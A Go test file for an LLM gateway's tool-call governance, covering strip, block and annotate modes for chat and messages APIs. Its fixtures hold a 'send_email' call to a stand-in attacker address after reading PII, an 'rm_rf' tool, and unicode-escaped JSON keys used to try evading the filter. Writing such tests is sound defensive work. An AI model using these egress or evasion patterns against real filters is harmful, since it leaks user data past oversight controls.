package model

import (
	"context"
	"encoding/json"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/agate-gateway/agate/internal/config"
	"github.com/agate-gateway/agate/internal/identity"
	"github.com/agate-gateway/agate/internal/model/provider"
	"github.com/agate-gateway/agate/internal/model/route"
	"github.com/agate-gateway/agate/internal/telemetry"
)

// cannedRouter answers every request with a fixed body and records the
// request it was sent.
type cannedRouter struct {
	body   string
	stream bool
	got    []byte
}

func (c *cannedRouter) Has(string) bool  { return true }
func (c *cannedRouter) Models() []string { return []string{"m"} }
func (c *cannedRouter) Do(_ context.Context, _ string, req *provider.Request) (*route.Result, error) {
	c.got = req.Body
	ct := "application/json"
	if c.stream {
		ct = "text/event-stream"
	}
	return &route.Result{
		Target: config.Target{Provider: "p", Model: "m"}, TargetName: "p/m",
		Response: &provider.Response{StatusCode: 200, Header: http.Header{"Content-Type": {ct}}, Body: io.NopCloser(strings.NewReader(c.body))},
	}, nil
}

// denyGate denies every tool named "send_email" and offers no tool named
// "rm_rf".
type denyGate struct{ proposed []string }

func (d *denyGate) OfferTool(_ context.Context, _ *Invocation, tool string) bool {
	return tool != "rm_rf"
}
func (d *denyGate) ProposeTool(_ context.Context, _ *Invocation, c ToolCall) ToolVerdict {
	d.proposed = append(d.proposed, c.Name+" "+string(c.Arguments))
	if c.Name == "send_email" {
		return ToolVerdict{Reason: "send_email after reading pii", Policies: []string{"no-egress-after-pii"}}
	}
	return ToolVerdict{Allow: true}
}

const chatToolBody = `{"id":"c1","object":"chat.completion","created":1,"model":"m","choices":[{"index":0,"message":{"role":"assistant","content":null,"tool_calls":[` +
	`{"id":"call_1","type":"function","function":{"name":"get_weather","arguments":"{\"city\":\"Paris\"}"}},` +
	`{"id":"call_2","type":"function","function":{"name":"send_email","arguments":"{\"to\":\"x@evil.test\"}"}}]},"finish_reason":"tool_calls"}],"usage":{"prompt_tokens":1,"completion_tokens":1,"total_tokens":2}}`

const chatToolStream = `data: {"id":"c1","object":"chat.completion.chunk","created":1,"model":"m","choices":[{"index":0,"delta":{"role":"assistant","content":"Let me check."},"finish_reason":null}]}

data: {"id":"c1","object":"chat.completion.chunk","created":1,"model":"m","choices":[{"index":0,"delta":{"tool_calls":[{"index":0,"id":"call_1","type":"function","function":{"name":"send_email","arguments":""}}]},"finish_reason":null}]}

data: {"id":"c1","object":"chat.completion.chunk","created":1,"model":"m","choices":[{"index":0,"delta":{"tool_calls":[{"index":0,"function":{"arguments":"{\"to\":"}}]},"finish_reason":null}]}

data: {"id":"c1","object":"chat.completion.chunk","created":1,"model":"m","choices":[{"index":0,"delta":{"tool_calls":[{"index":0,"function":{"arguments":"\"x@evil.test\"}"}}]},"finish_reason":null}]}

data: {"id":"c1","object":"chat.completion.chunk","created":1,"model":"m","choices":[{"index":0,"delta":{"tool_calls":[{"index":1,"id":"call_2","type":"function","function":{"name":"get_weather","arguments":"{\"city\":\"Paris\"}"}}]},"finish_reason":null}]}

data: {"id":"c1","object":"chat.completion.chunk","created":1,"model":"m","choices":[{"index":0,"delta":{},"finish_reason":"tool_calls"}]}

data: [DONE]

`

const messageToolBody = `{"id":"msg_1","type":"message","role":"assistant","model":"m","content":[{"type":"text","text":"Sending."},{"type":"tool_use","id":"tu_1","name":"send_email","input":{"to":"x@evil.test"}}],"stop_reason":"tool_use","stop_sequence":null,"usage":{"input_tokens":1,"output_tokens":1}}`

const messageToolStream = `event: message_start
data: {"type":"message_start","message":{"id":"msg_1","type":"message","role":"assistant","model":"m","content":[],"stop_reason":null,"stop_sequence":null,"usage":{"input_tokens":1,"output_tokens":0}}}

event: content_block_start
data: {"type":"content_block_start","index":0,"content_block":{"type":"text","text":""}}

event: content_block_delta
data: {"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":"Sending."}}

event: content_block_stop
data: {"type":"content_block_stop","index":0}

event: content_block_start
data: {"type":"content_block_start","index":1,"content_block":{"type":"tool_use","id":"tu_1","name":"send_email","input":{}}}

event: content_block_delta
data: {"type":"content_block_delta","index":1,"delta":{"type":"input_json_delta","partial_json":"{\"to\":"}}

event: content_block_delta
data: {"type":"content_block_delta","index":1,"delta":{"type":"input_json_delta","partial_json":"\"x@evil.test\"}"}}

event: content_block_stop
data: {"type":"content_block_stop","index":1}

event: message_delta
data: {"type":"message_delta","delta":{"stop_reason":"tool_use","stop_sequence":null},"usage":{"output_tokens":5}}

event: message_stop
data: {"type":"message_stop"}

`

func serveWith(t *testing.T, rt *cannedRouter, mode ToolMode, gate ToolGate, path, reqBody string) (*httptest.ResponseRecorder, string) {
	t.Helper()
	h := &Handler{Router: rt, Metrics: telemetry.NewMetrics(), Log: slog.New(slog.NewTextHandler(io.Discard, nil)),
		MaxBodyBytes: 1 << 20, Tools: gate, ToolMode: mode}
	req := httptest.NewRequest("POST", path, strings.NewReader(reqBody))
	req = req.WithContext(identity.NewContext(req.Context(), &identity.Principal{Subject: "u"}))
	w := httptest.NewRecorder()
	if path == "/v1/messages" {
		h.ServeMessages(w, req)
	} else {
		h.ServeChat(w, req)
	}
	return w, w.Body.String()
}

func TestToolCallGovernance(t *testing.T) {
	tests := []struct {
		name, path, body string
		stream           bool
		mode             ToolMode
		status           int
		want, notWant    []string
	}{
		{"chat strip", "/v1/chat/completions", chatToolBody, false, ToolStrip, 200,
			[]string{`"get_weather"`, `not allowed and has been removed: send_email after reading pii`},
			[]string{`"send_email","arguments"`}},
		{"chat strip, name escaped", "/v1/chat/completions", strings.ReplaceAll(chatToolBody, `"tool_calls"`, `"tool\u005fcalls"`), false, ToolStrip, 200,
			[]string{`"get_weather"`, `not allowed and has been removed: send_email after reading pii`},
			[]string{`"send_email","arguments"`, `x@evil.test`}},
		{"chat block", "/v1/chat/completions", chatToolBody, false, ToolBlock, 403,
			[]string{`"code":"tool_call_denied"`, `send_email`}, []string{`get_weather`}},
		{"chat annotate", "/v1/chat/completions", chatToolBody, false, ToolAnnotate, 200,
			[]string{`"agate_tool_decisions"`, `"decision":"deny"`, `"policies":["no-egress-after-pii"]`, `"name":"send_email","arguments"`}, nil},
		{"chat stream strip", "/v1/chat/completions", chatToolStream, true, ToolStrip, 200,
			[]string{`Let me check.`, `"name":"get_weather","arguments":"{\"city\":\"Paris\"}"`, `not allowed and has been removed`, `"index":0,"id":"call_2"`, `data: [DONE]`},
			[]string{`x@evil.test`}},
		// "tool\u005fcalls" is tool_calls to any JSON decoder, the
		// client's included: a chunk spelled so is still decided.
		{"chat stream strip, name escaped", "/v1/chat/completions", strings.ReplaceAll(chatToolStream, `"tool_calls":[`, `"tool\u005fcalls":[`), true, ToolStrip, 200,
			[]string{`Let me check.`, `"name":"get_weather","arguments":"{\"city\":\"Paris\"}"`, `not allowed and has been removed`, `data: [DONE]`},
			[]string{`x@evil.test`}},
		{"chat stream block", "/v1/chat/completions", chatToolStream, true, ToolBlock, 200,
			[]string{`Let me check.`, `"error":`, `not allowed`}, []string{`[DONE]`, `get_weather`}},
		{"messages strip", "/v1/messages", messageToolBody, false, ToolStrip, 200,
			[]string{`"Sending."`, `not allowed and has been removed`, `"stop_reason":"end_turn"`}, []string{`"tool_use"`}},
		{"messages strip, type escaped", "/v1/messages", strings.ReplaceAll(messageToolBody, `"tool_use"`, `"tool\u005Fuse"`), false, ToolStrip, 200,
			[]string{`"Sending."`, `not allowed and has been removed`, `"stop_reason":"end_turn"`}, []string{`x@evil.test`}},
		{"messages block", "/v1/messages", messageToolBody, false, ToolBlock, 403,
			[]string{`"type":"permission_error"`}, nil},
		{"messages stream strip", "/v1/messages", messageToolStream, true, ToolStrip, 200,
			[]string{`"text":"Sending."`, `"index":1,"delta":{"type":"text_delta","text":"[agate]`, `"stop_reason":"end_turn"`, `message_stop`},
			[]string{`x@evil.test`, `"tool_use"`}},
		{"messages stream annotate keeps the call", "/v1/messages", messageToolStream, true, ToolAnnotate, 200,
			[]string{`x@evil.test`, `"stop_reason":"tool_use"`}, nil},
		{"messages stream block", "/v1/messages", messageToolStream, true, ToolBlock, 200,
			[]string{`"text":"Sending."`, "event: error"}, []string{`message_stop`}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			gate := &denyGate{}
			rt := &cannedRouter{body: tt.body, stream: tt.stream}
			req := `{"model":"m","messages":[{"role":"user","content":"hi"}]}`
			if tt.stream {
				req = `{"model":"m","stream":true,"messages":[{"role":"user","content":"hi"}]}`
			}
			w, got := serveWith(t, rt, tt.mode, gate, tt.path, req)
			if w.Code != tt.status {
				t.Fatalf("status %d, want %d: %s", w.Code, tt.status, got)
			}
			for _, s := range tt.want {
				if !strings.Contains(got, s) {
					t.Errorf("response lacks %s:\n%s", s, got)
				}
			}
			for _, s := range tt.notWant {
				if strings.Contains(got, s) {
					t.Errorf("response has %s:\n%s", s, got)
				}
			}
			if len(gate.proposed) == 0 {
				t.Error("no call was decided")
			}
		})
	}
}

func TestOfferedToolsFiltered(t *testing.T) {
	rt := &cannedRouter{body: `{"id":"c","object":"chat.completion","created":1,"model":"m","choices":[]}`}
	req := `{"model":"m","messages":[],"tools":[{"type":"function","function":{"name":"rm_rf"}},{"type":"function","function":{"name":"get_weather"}}],"tool_choice":"auto"}`
	if w, body := serveWith(t, rt, ToolStrip, &denyGate{}, "/v1/chat/completions", req); w.Code != 200 {
		t.Fatalf("%d %s", w.Code, body)
	}
	var sent struct {
		Tools []struct {
			Function struct{ Name string } `json:"function"`
		} `json:"tools"`
		ToolChoice string `json:"tool_choice"`
	}
	if err := json.Unmarshal(rt.got, &sent); err != nil {
		t.Fatal(err)
	}
	if len(sent.Tools) != 1 || sent.Tools[0].Function.Name != "get_weather" || sent.ToolChoice != "auto" {
		t.Fatalf("upstream was offered %s", rt.got)
	}
	// Only forbidden tools: tools and tool_choice both go.
	req = `{"model":"m","messages":[],"tools":[{"name":"rm_rf","input_schema":{}}],"tool_choice":{"type":"any"},"max_tokens":1}`
	rt.body = `{"id":"m","type":"message","role":"assistant","content":[],"stop_reason":"end_turn","usage":{"input_tokens":1,"output_tokens":1}}`
	serveWith(t, rt, ToolStrip, &denyGate{}, "/v1/messages", req)
	if strings.Contains(string(rt.got), "tools") || strings.Contains(string(rt.got), "tool_choice") {
		t.Fatalf("upstream was offered %s", rt.got)
	}
	// Without a gate the body is forwarded byte for byte.
	serveWith(t, rt, ToolStrip, nil, "/v1/messages", req)
	if string(rt.got) != req {
		t.Fatalf("body re-encoded without need: %s", rt.got)
	}
}
